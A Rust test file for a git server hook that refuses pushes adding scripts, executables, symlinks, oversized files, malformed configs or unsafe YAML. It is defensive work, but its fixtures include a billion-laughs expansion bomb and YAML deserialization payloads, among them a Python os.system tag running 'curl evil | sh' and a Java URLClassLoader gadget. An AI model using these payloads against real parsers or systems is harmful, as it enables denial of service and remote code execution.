//! Pushes refused for the files they change.

use super::*;
use crate::common::*;

/// Nine levels of nine aliases: 9^9 nodes once expanded.
const BILLION_LAUGHS: &str = r#"a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"#;

#[test]
fn refuses_shell_script() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("deploy")
        .file("scripts/deploy.sh", "#!/bin/sh\nkubectl apply -f .\n")
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "scripts/deploy.sh: file type not allowed by the policy",
        "git rm --cached -- 'scripts/deploy.sh'",
    ]);
}

#[test]
fn refuses_executable_yaml() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work.commit("x").executable("run.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "run.yaml: file is executable (mode 100755)",
        "git update-index --chmod=-x -- 'run.yaml'",
    ]);
}

#[test]
fn refuses_executable_bit_added_to_an_existing_file() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("chmod")
        .executable("base.yaml", BASE_YAML)
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[short(&c), "base.yaml: file is executable"]);
}

#[test]
fn refuses_symlink() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("link")
        .symlink("etc.yaml", "/etc/passwd")
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "etc.yaml: symbolic links are not allowed (mode 120000)",
        "git rm -- 'etc.yaml'",
    ]);
}

#[test]
fn refuses_submodule_gitlink() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work.commit("vendor").gitlink("vendor/lib", &base).create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "vendor/lib: submodules are not allowed (mode 160000)",
        "git rm -- 'vendor/lib'",
    ]);
}

#[test]
fn refuses_file_over_the_policy_max_size() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    server.set_max_size(100);
    let c = work
        .commit("big")
        .file("big.yaml", format!("data: \"{}\"\n", "x".repeat(200)))
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "big.yaml: file is 209 bytes, over the 100 byte limit",
        "split the file",
    ]);
}

#[test]
fn refuses_file_over_the_default_one_mib_limit() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("blob")
        .file("blob.txt", vec![b'a'; 1024 * 1024 + 1])
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "blob.txt: file is 1048577 bytes, over the 1048576 byte limit",
    ]);
}

#[test]
fn refuses_path_with_control_characters_and_prints_it_as_plain_ascii() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("escape")
        .file("red\x1b[31m.yaml", "a: 1\n")
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "red\\x1b[31m.yaml: path contains control characters",
        "git mv",
    ]);
    assert!(!push.stderr.contains('\x1b'), "{:?}", push.stderr);
}

/// A commit adding `path` with `contents` must be refused as invalid syntax.
fn refuses_invalid_file(path: &str, contents: &str) {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work.commit("bad").file(path, contents).create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        &format!("{path}: invalid"),
        "fix the syntax and amend the commit",
    ]);
}

#[test]
fn refuses_invalid_yaml() {
    refuses_invalid_file("apps/web.yaml", "metadata:\n  name: web\n  labels: [a, b\n");
}

#[test]
fn refuses_invalid_json() {
    refuses_invalid_file("config.json", "{\"replicas\": 2,}\n");
}

#[test]
fn refuses_invalid_toml() {
    refuses_invalid_file("config.toml", "[server\nport = 80\n");
}

#[test]
fn refuses_billion_laughs_yaml() {
    refuses_invalid_file("lol.yaml", BILLION_LAUGHS);
}

#[test]
fn refuses_invalid_yaml_whose_bytes_are_also_committed_as_text() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let bytes = "metadata:\n  labels: [a, b\n";
    // a.txt sorts before b.yaml, so the text file is judged first.
    let c = work
        .commit("same bytes twice")
        .file("a.txt", bytes)
        .file("b.yaml", bytes)
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[short(&c), "b.yaml: invalid"]);
}

#[test]
fn refuses_billion_laughs_yaml_smuggled_as_a_text_file_first() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    work.commit("notes")
        .file("notes.txt", BILLION_LAUGHS)
        .create();
    let c = work
        .commit("rename")
        .remove("notes.txt")
        .file("lol.yaml", BILLION_LAUGHS)
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[short(&c), "lol.yaml: invalid"]);
}

// ---- Declarative means unambiguous (issue 10): duplicate keys, language tags ---------------

/// Pushes one commit adding `path` with `contents` and asserts it is refused with exactly one
/// violation line holding every one of `parts`, the branch unmoved; returns that line.
fn refuses_one_file(path: &str, contents: &str, parts: &[&str]) -> String {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work.commit("ambiguous").file(path, contents).create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    assert_eq!(push.violations().len(), 1, "{}", push.stderr);
    let mut all = vec![short(&c)];
    all.extend_from_slice(parts);
    push.line_with(&all).to_owned()
}

#[test]
fn refuses_yaml_with_a_key_repeated_in_quotes() {
    let line = refuses_one_file(
        "apps/web.yaml",
        "metadata:\n  name: web\nspec:\n  replicas: 1\n  \"replicas\": 50\n",
        &[
            "apps/web.yaml: invalid YAML: line 5 column 3: duplicate key \"replicas\" (first at line 4)",
            "readers disagree on which value wins, keep only one",
        ],
    );
    assert!(
        line.ends_with("; fix: fix the syntax and amend the commit"),
        "{line}"
    );
}

#[test]
fn refuses_yaml_with_a_key_repeated_through_an_alias() {
    refuses_one_file(
        "apps/web.yaml",
        "names:\n  - &image image\ncontainer:\n  image: web:1.0\n  *image : evil:6.6\n",
        &["line 5 column 3: duplicate key *image (first at line 4)"],
    );
}

#[test]
fn refuses_yaml_with_two_merge_keys() {
    refuses_one_file(
        "compose.yaml",
        "x-a: &a {image: web}\nx-b: &b {image: evil}\nweb:\n  <<: *a\n  <<: *b\n",
        &[
            "line 5 column 3: second merge key << in one mapping (first at line 4)",
            "<<: [*a, *b]",
        ],
    );
}

#[test]
fn accepts_yaml_merge_key_overrides_and_same_keys_in_different_mappings() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    push_base(&work);
    let c = work
        .commit("defaults")
        .file(
            "values.yaml",
            "x-defaults: &defaults {replicas: 1, image: web}\n\
             api:\n  <<: *defaults\n  replicas: 3\nworker:\n  <<: *defaults\n  replicas: 2\n",
        )
        .create();
    work.push_main_ok();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

#[test]
fn refuses_json_with_a_key_repeated_through_an_escape() {
    refuses_one_file(
        "config.json",
        "{\n  \"replicas\": 1,\n  \"replic\\u0061s\": 50\n}\n",
        &[
            "config.json: invalid JSON: line 3 column 3: duplicate key \"replicas\" (first at line 2)",
        ],
    );
}

#[test]
fn refuses_toml_with_a_key_repeated_in_quotes() {
    refuses_one_file(
        "config.toml",
        "replicas = 1\n\"replicas\" = 50\n",
        &["config.toml: invalid TOML: line 2"],
    );
}

#[test]
fn refuses_yaml_with_a_python_tag_naming_tag_and_fix() {
    refuses_one_file(
        "apps/job.yaml",
        "kind: Job\nspec: !!python/object/apply:os.system [\"curl evil | sh\"]\n",
        &[
            "apps/job.yaml: invalid YAML: line 2 column 7: yaml tag !!python/object/apply:os.system",
            "remove the tag, or ask an administrator to add \"tag:yaml.org,2002:python/object/apply:os.system\" to [syntax] allowed_yaml_tags",
        ],
    );
}

#[test]
fn refuses_yaml_with_a_python_tag_smuggled_through_a_tag_directive() {
    refuses_one_file(
        "apps/job.yaml",
        "%TAG !! tag:yaml.org,2002:python/\n---\nspec: !!object/apply:os.system [id]\n",
        &[
            "line 3 column 7: yaml tag !!object/apply:os.system (resolved: tag:yaml.org,2002:python/object/apply:os.system)",
        ],
    );
}

#[test]
fn refuses_yaml_with_ruby_and_java_tags() {
    refuses_one_file(
        "gem.yaml",
        "- !ruby/object:Gem::Installer\n  i: x\n",
        &["line 1 column 3: yaml tag !ruby/object:Gem::Installer is not allowed"],
    );
    refuses_one_file(
        "snake.yaml",
        "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
        &["yaml tag !!javax.script.ScriptEngineManager"],
    );
}

#[test]
fn custom_yaml_tag_is_refused_until_the_policy_lists_it() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("stack")
        .file(
            "stack.yaml",
            "Resources:\n  Bucket:\n    Type: AWS::S3::Bucket\nOutputs:\n  Name: {Value: !Ref Bucket}\n",
        )
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "stack.yaml: invalid YAML: line 5 column 17: yaml tag !Ref is not allowed",
        "add \"!Ref\" to [syntax] allowed_yaml_tags",
    ]);
    // The tag an administrator lists passes, and only that one.
    server.edit_policy("allowed_yaml_tags = []", "allowed_yaml_tags = [\"!Ref\"]");
    work.push_main_ok();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
    let d = work
        .commit("sub")
        .file("sub.yaml", "Name: !Sub '${AWS::StackName}-data'\n")
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&c));
    push.line_with(&[
        short(&d),
        "sub.yaml: invalid YAML: line 1 column 7: yaml tag !Sub is not allowed",
    ]);
}

#[test]
fn unusable_allowed_yaml_tag_refuses_every_push_and_names_the_entry() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    server.edit_policy(
        "allowed_yaml_tags = []",
        "allowed_yaml_tags = [\"!!python/object\"]",
    );
    work.commit("any").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&["allowed_yaml_tags entry \"!!python/object\" uses the !! handle"]);
}
